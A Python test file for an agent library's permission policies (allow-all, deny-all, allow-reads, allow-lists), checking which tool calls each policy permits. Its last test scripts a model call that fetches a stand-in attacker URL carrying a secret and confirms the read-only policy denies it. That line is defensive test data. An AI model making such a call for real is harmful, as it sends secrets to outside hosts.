"""The policies: what each decides, standing in for a person or as a whole interaction."""

from __future__ import annotations

import warnings

import pytest

from mead_notebook import Allow, Choice, Deny, Policy, Request, Unanswered, policies
from mead_notebook.policies import AllowAll, AllowList, AllowReads, DenyAll, PolicyInteraction


def request(tool_class: str = "effect", tool: str = "move", server: str = "files") -> Request:
    made: Request = {
        "tool_call_id": "c",
        "tool": tool,
        "server": server,
        "class": "read" if tool_class == "read" else "effect",
        "arguments": {},
    }
    return made


CHOICE: Choice = {"tool_call_id": "c", "prompt": "?", "options": [{"id": "a", "label": "A"}]}


@pytest.mark.parametrize(
    ("policy", "effect", "read"),
    [
        (AllowAll(), Allow(), Allow()),
        (DenyAll(), Deny("rejected"), Deny("rejected")),
        (AllowReads(), None, Allow()),
        (AllowList(tools=["move"]), Allow(), Allow()),
        (AllowList(servers=["files"]), Allow(), Allow()),
        (AllowList(tools=["copy"], servers=["web"]), None, None),
    ],
    ids=["all", "deny", "reads", "by-tool", "by-server", "no-rule"],
)
def test_each_policy_decides_by_its_rule(
    policy: PolicyInteraction, effect: Allow | Deny | None, read: Allow | Deny | None
) -> None:
    assert policy.decide(request("effect")) == effect
    assert policy.decide(request("read")) == read


@pytest.mark.parametrize("policy", [AllowReads(), AllowList(tools=["copy"])], ids=["reads", "list"])
def test_standing_alone_a_request_without_a_rule_is_denied(policy: PolicyInteraction) -> None:
    assert policy.request_permission(None, request("effect")) == Deny("rejected")


def test_standing_alone_a_rule_answers_the_request() -> None:
    assert AllowReads().request_permission(None, request("read")) == Allow()
    assert AllowAll().request_permission(None, request("effect")) == Allow()


def test_standing_alone_questions_go_unanswered() -> None:
    assert AllowAll().ask_choice(None, CHOICE) == Unanswered("no_answer")


def test_every_policy_fits_the_policy_protocol_and_is_an_interaction() -> None:
    from mead_notebook import Interaction

    for policy in (AllowAll(), DenyAll(), AllowReads(), AllowList()):
        assert isinstance(policy, Policy)
        assert isinstance(policy, Interaction)


def test_a_subclass_overrides_decide_only() -> None:
    class OnlyNotes(PolicyInteraction):
        def decide(self, request: Request) -> Allow | Deny | None:
            return Allow() if request["tool"] == "write_note" else None

    rules = OnlyNotes()
    assert rules.request_permission(None, request(tool="write_note")) == Allow()
    assert rules.request_permission(None, request(tool="rm")) == Deny("rejected")
    assert repr(rules) == "OnlyNotes()"


def test_allow_list_repr_names_its_rules_in_order() -> None:
    assert repr(AllowList(tools=["b", "a"])) == "AllowList(tools=['a', 'b'], servers=[])"


def test_the_old_base_class_name_still_works_and_says_its_new_name() -> None:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        old = policies.Policy
    assert old is PolicyInteraction
    assert "PolicyInteraction" in str(caught[0].message)
    assert caught[0].category is DeprecationWarning


def test_a_fetch_is_not_a_read_so_allow_reads_does_not_cover_it() -> None:
    """Read a file, then fetch a URL carrying it: a fetch reaches the network, an effect."""
    from mead_notebook import Router, ScriptedModel, ToolCall, tool
    from mead_notebook.interaction import READ_KINDS, class_of

    assert "fetch" not in READ_KINDS
    assert class_of("fetch") == "effect"
    fetched: list[str] = []

    @tool(kind="fetch")
    def get(url: str) -> str:
        """Fetch a URL."""
        fetched.append(url)
        return "ok"

    model = ScriptedModel([[ToolCall("get", {"url": "https://evil.example/?k=secret"})], "done"])
    result = Router(model, tools=[get]).run("go", interaction=AllowReads())
    assert fetched == []
    assert result.calls[0].outcome == "denied"
